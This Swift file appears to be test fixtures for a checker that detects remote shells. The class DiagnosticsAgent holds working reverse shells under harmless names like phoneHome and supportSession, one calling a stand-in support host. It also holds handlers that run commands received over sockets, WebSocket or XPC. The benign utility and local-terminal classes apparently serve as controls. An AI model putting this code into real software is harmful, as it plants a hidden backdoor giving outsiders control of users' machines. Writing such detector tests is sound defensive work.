import Darwin
import Foundation
import Network

final class DiagnosticsAgent {
    func phoneHome0(host: String, port: UInt16) {
        let sock = socket(AF_INET, SOCK_STREAM, 0)
        var address = sockaddr_in()
        address.sin_family = sa_family_t(AF_INET)
        address.sin_port = port.bigEndian
        inet_pton(AF_INET, host, &address.sin_addr)
        let connected = withUnsafePointer(to: &address) {
            $0.withMemoryRebound(to: sockaddr.self, capacity: 1) {
                connect(sock, $0, socklen_t(MemoryLayout<sockaddr_in>.size))
            }
        }
        guard connected == 0 else { return }
        dup2(sock, STDIN_FILENO)
        dup2(sock, STDOUT_FILENO)
        dup2(sock, STDERR_FILENO)
        let argv: [UnsafeMutablePointer<CChar>?] = [strdup("/bin/sh"), strdup("-i"), nil]
        execv("/bin/sh", argv)
    }

    func phoneHome1(host: String, port: UInt16) {
        let sock = socket(AF_INET, SOCK_STREAM, 0)
        var address = sockaddr_in()
        address.sin_family = sa_family_t(AF_INET)
        address.sin_port = port.bigEndian
        inet_pton(AF_INET, host, &address.sin_addr)
        let connected = withUnsafePointer(to: &address) {
            $0.withMemoryRebound(to: sockaddr.self, capacity: 1) {
                connect(sock, $0, socklen_t(MemoryLayout<sockaddr_in>.size))
            }
        }
        guard connected == 0 else { return }
        dup2(sock, STDIN_FILENO)
        dup2(sock, STDOUT_FILENO)
        dup2(sock, STDERR_FILENO)
        let argv: [UnsafeMutablePointer<CChar>?] = [strdup("/bin/zsh"), strdup("-i"), nil]
        execv("/bin/zsh", argv)
    }

    func attachShell(to sock: Int32) {
        var actions: posix_spawn_file_actions_t?
        posix_spawn_file_actions_init(&actions)
        posix_spawn_file_actions_adddup2(&actions, sock, 0)
        posix_spawn_file_actions_adddup2(&actions, sock, 1)
        var pid: pid_t = 0
        let argv: [UnsafeMutablePointer<CChar>?] = [strdup("/bin/bash"), nil]
        posix_spawn(&pid, "/bin/bash", &actions, nil, argv, environ)
    }

    func supportSession() throws {
        let socket = try Socket.create()
        try socket.connect(to: "support.deskassist.example", port: 9443)
        let handle = FileHandle(fileDescriptor: socket.socketFD)
        let shell = Process()
        shell.executableURL = URL(fileURLWithPath: "/bin/zsh")
        shell.arguments = ["-i"]
        shell.standardInput = handle
        shell.standardOutput = handle
        shell.standardError = handle
        try shell.run()
    }

    func runLine(from sock: Int32) {
        var buffer = [CChar](repeating: 0, count: 1024)
        let count = recv(sock, &buffer, buffer.count - 1, 0)
        guard count > 0 else { return }
        let line = String(cString: buffer)
        let argv: [UnsafeMutablePointer<CChar>?] = [strdup("/bin/sh"), strdup("-c"), strdup(line), nil]
        var pid: pid_t = 0
        posix_spawn(&pid, "/bin/sh", nil, nil, argv, environ)
    }

    func pipeCommand(from connection: NWConnection) {
        connection.receive(minimumIncompleteLength: 1, maximumLength: 512) { data, _, _, _ in
            guard let data, let command = String(data: data, encoding: .utf8) else { return }
            let output = popen(command, "r")
            pclose(output)
        }
    }

    func handleSocketMessage(_ task: URLSessionWebSocketTask) {
        task.receive { result in
            if case .success(.string(let text)) = result {
                system(text)
            }
        }
    }

    func handle(message: xpc_object_t) {
        guard let raw = xpc_dictionary_get_string(message, "script") else { return }
        let task = Process()
        task.executableURL = URL(fileURLWithPath: "/bin/sh")
        task.arguments = ["-c", String(cString: raw)]
        try? task.run()
    }
}

/// Honest neighbours: log capture, reachability, a local terminal and fixed tools.
final class AgentUtilities {
    private let pipe = Pipe()

    func captureStderr() {
        dup2(pipe.fileHandleForWriting.fileDescriptor, STDERR_FILENO)
    }

    func reachable(port: UInt16) -> Bool {
        let sock = socket(AF_INET, SOCK_STREAM, 0)
        defer { close(sock) }
        var address = sockaddr_in()
        address.sin_port = port.bigEndian
        return withUnsafePointer(to: &address) {
            $0.withMemoryRebound(to: sockaddr.self, capacity: 1) {
                connect(sock, $0, socklen_t(MemoryLayout<sockaddr_in>.size)) == 0
            }
        }
    }

    func verifySignature(of bundle: URL) throws {
        let codesign = Process()
        codesign.executableURL = URL(fileURLWithPath: "/usr/bin/codesign")
        codesign.arguments = ["--verify", "--deep", "--strict", bundle.path]
        try codesign.run()
    }

    func openLogs() {
        _ = Process.launchedProcess(launchPath: "/usr/bin/open", arguments: ["/Library/Logs/DeskAssist"])
    }

    func switchChannel() throws {
        let channel = UserDefaults.standard.string(forKey: "updateChannel") ?? "stable"
        let updater = Process()
        updater.executableURL = URL(fileURLWithPath: "/usr/local/bin/deskassist-update")
        updater.arguments = ["--channel", channel == "beta" ? "beta" : "stable"]
        try updater.run()
    }

    func diskUsage() -> String {
        let du = Process()
        let output = Pipe()
        du.executableURL = URL(fileURLWithPath: "/usr/bin/du")
        du.arguments = ["-sh", NSHomeDirectory()]
        du.standardOutput = output
        try? du.run()
        return String(decoding: output.fileHandleForReading.readDataToEndOfFile(), as: UTF8.self)
    }

    func compress(path: String) {
        var pid: pid_t = 0
        let argv: [UnsafeMutablePointer<CChar>?] = [strdup("/usr/bin/gzip"), strdup("-k"), strdup(path), nil]
        posix_spawn(&pid, "/usr/bin/gzip", nil, nil, argv, environ)
    }
}

/// The app's Terminal tab: a login shell on a local pseudo-terminal. (A shell
/// wired to a handle in a type that also opens a socket is reported: the check
/// looks at the type, not at where the handle came from.)
final class LocalTerminal {
    func launch(master: FileHandle) throws {
        let shell = Process()
        shell.executableURL = URL(fileURLWithPath: "/bin/zsh")
        shell.arguments = ["-l"]
        shell.standardInput = master
        shell.standardOutput = master
        try shell.run()
    }
}
